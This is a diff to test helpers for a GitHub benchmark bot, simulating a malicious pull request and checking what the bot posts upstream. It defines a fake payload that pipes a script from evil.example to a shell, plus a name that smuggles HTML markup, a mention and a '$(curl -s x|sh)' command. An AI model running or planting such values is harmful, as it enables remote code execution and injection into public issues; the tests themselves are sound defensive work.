@@ -9,6 +9,7 @@ against its unfused-backward state: a real, large regression that files issues a
 from __future__ import annotations
 
 import json
+import re
 from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
@@ -35,7 +36,21 @@ NVFUSER_PAIR = (
     "6c840f30a96a282fe29eba9d44e3204846fd363b",
     "93486aafc5fd15b125900dbe6a8941203e66d1c3",
 )
+#: The catalog's PR run (data/h200-catalog/pair: Bias+GELU backward's Thunder made 5% slower
+#: at head) and the two recorded captures the demo compares as its sides.
+CATALOG_PAIR = (
+    REPO_ROOT / "data" / "h200-catalog" / "pair",
+    "6a438ce967f8e234f948f873364a4e17933c7a4c",
+    "e0cdef8e0a8c185212180a0ad7ba90188ea6f23a",
+)
+CATALOG_CAPTURES = REPO_ROOT / "data" / "h200-catalog" / "captures"
+#: A stock run of RESULTS' first day, to stand for HEAD in an A/A pair (no change).
+AA_HEAD = "da17d548f3e6eff323c8348d60147c060c057143"
 EVIL = "import os; os.system('curl -s https://evil.example/x.sh | sh')"
+#: A fusion name that is markup, a mention, references and a shell command (issue 37).
+EVIL_NAME = "x`<img src=x> <details open>@someone #7310 NVIDIA/Fuser#7310 $(curl -s x|sh)"
+#: The PR an issue's title names (the bot's titles end "in OWNER/NAME#N"; a seeded one's "PR #N").
+_PR_IN_TITLE = re.compile(r"(?:fusion-perfbot/fusion-perfbot#|PR #)([0-9]+)")
 #: Tokens: GITHUB_TOKEN of a job that reads, of one that writes; the cross-repository secret.
 READ_TOKEN, WRITE_TOKEN, ISSUES_TOKEN = "gha-read", "gha-write", "perfbot-issues"
 ACTIONS_LOGIN, ISSUES_LOGIN = "github-actions[bot]", "perfbot-issues"
@@ -56,13 +71,18 @@ def seed(fake: LocalGitHub) -> None:
 
 
 def open_pr(
-    fake: LocalGitHub, *, head_repo: str = OUR, head: str = HEAD, base: str = BASE
+    fake: LocalGitHub,
+    *,
+    head_repo: str = OUR,
+    head: str = HEAD,
+    base: str = BASE,
+    head_ref: str = "fast-bwd",
 ) -> Issue:
     pr = fake.state.add_pull_request(
         OUR,
         "rmsnorm: a faster backward",
         author="mallory" if head_repo != OUR else "maintainer",
-        head_ref="fast-bwd",
+        head_ref=head_ref,
         head_sha=head,
         head_repo=head_repo,
     )
@@ -96,6 +116,47 @@ def results_files(
             for point in sorted(p for p in (CAPTURES / side).iterdir() if p.is_dir()):
                 name = f"results/{machine}/{commit}.captures/{point.name}/nvfuser/repro.py.txt"
                 files[name] = (EVIL if commit == head else "print('base')").encode()
+    return files
+
+
+def relabelled(files: dict[str, bytes], old: str, new: str) -> dict[str, bytes]:
+    """`files` with commit `old` renamed `new` (40 hex digits each) in names and contents: a
+    run's results made to stand for another commit, as an attacker writes them."""
+    assert len(old) == len(new) == 40
+    out = {}
+    for name, data in files.items():
+        name = name.replace(old, new).replace(f"/{old[:8]}-", f"/{new[:8]}-")
+        out[name] = data.replace(old.encode(), new.encode())
+    return out
+
+
+def aa_files() -> dict[str, bytes]:
+    """RESULTS with a stock run of another day standing for HEAD: no change between the sides."""
+    stock = {k: v for k, v in results_files().items() if HEAD not in k and HEAD[:8] not in k}
+    return relabelled(stock, AA_HEAD, HEAD)
+
+
+def catalog_files(rename: str | None = None, captures: bool = False) -> dict[str, bytes]:
+    """The catalog's PR run as bench-pr uploads it (results/rep-1, results/rep-2), Bias+GELU
+    backward renamed `rename` in every results file and record; `captures`: its recorded
+    captures beside both sides of repeat 1, under the same name."""
+    from data_helpers import renamed_fusion
+
+    folder, base, head = CATALOG_PAIR
+    files = results_files(folder)
+    if rename is not None:
+        files = {
+            k: renamed_fusion(v, "gelu_bwd", rename) if k.endswith(("json", "jsonl")) else v
+            for k, v in files.items()
+        }
+    if captures:
+        for commit, side in ((base, "stock-1"), (head, "stock-2")):
+            source = CATALOG_CAPTURES / side / "gelu_bwd"
+            for path in sorted(source.rglob("*")):
+                if path.is_file():
+                    rel = path.relative_to(source).as_posix()
+                    where = f"results/rep-1/nvidia-h200/{commit}.captures/gelu_bwd/{rel}"
+                    files[where] = path.read_bytes()
     return files
 
 
@@ -142,6 +203,7 @@ def bench_run(
         repo,
         head_sha=head,
         head_repo=head_repo or pull.pull.head_repo,
+        head_branch=pull.pull.head_ref,
         path=path,
         triggering_actor=trigger,
     )
@@ -187,25 +249,46 @@ def payload(run: WorkflowRun, **changes: Any) -> dict[str, Any]:
 
 @dataclass(frozen=True)
 class Left:
-    """What one poster run left on GitHub."""
+    """What the poster runs left on GitHub: the bot's comments, the upstream issues (and how
+    many of them closed), the commit statuses, and each harm found (`harms`)."""
 
     comments: int
     issues: dict[str, int]
     statuses: int
-    evil_upstream: bool  # the attacker's command in an upstream issue
+    harms: tuple[str, ...] = ()
+    closed: int = 0
+
+    @property
+    def evil_upstream(self) -> bool:
+        return bool(self.harms)
 
 
 def left(fake: LocalGitHub) -> Left:
     state = fake.state
-    comments = sum(
-        len([c for c in state.comments_on(OUR, i.number) if c.author == ACTIONS_LOGIN])
+    mine = [
+        c
         for i in state.issues(OUR)
-    )
+        for c in state.comments_on(OUR, i.number)
+        if c.author == ACTIONS_LOGIN
+    ]
     upstream = {r: [i for i in state.issues(r) if i.pull is None] for r in (FUSER, THUNDER)}
-    texts = [(i.title, i.body or "") for found in upstream.values() for i in found]
+    filed = [i for found in upstream.values() for i in found]
+    told = [f"{i.title}\n{i.body}" for i in filed] + [
+        c.body for i in filed for c in state.comments_on(i.repo, i.number)
+    ]
+    harms = {
+        "the attacker's command upstream": any("evil.example" in t for t in told),
+        "the attacker's markup upstream": any("<img src=x>" in t or "@someone" in t for t in told),
+        "the poster's own files named": any("/etc/" in t for t in told + [c.body for c in mine]),
+        "another PR's issue taken over": any(
+            len({n for t in (*i.renamed_from, i.title) for n in _PR_IN_TITLE.findall(t)}) > 1
+            for i in filed
+        ),
+    }
     return Left(
-        comments,
+        len(mine),
         {r.split("/")[0]: len(found) for r, found in upstream.items()},
         len([s for s in state.pulls.statuses if s.repo == OUR]),
-        any("evil.example" in title + body for title, body in texts),
+        tuple(harm for harm, found in harms.items() if found),
+        len([i for i in filed if i.state == "closed"]),
     )
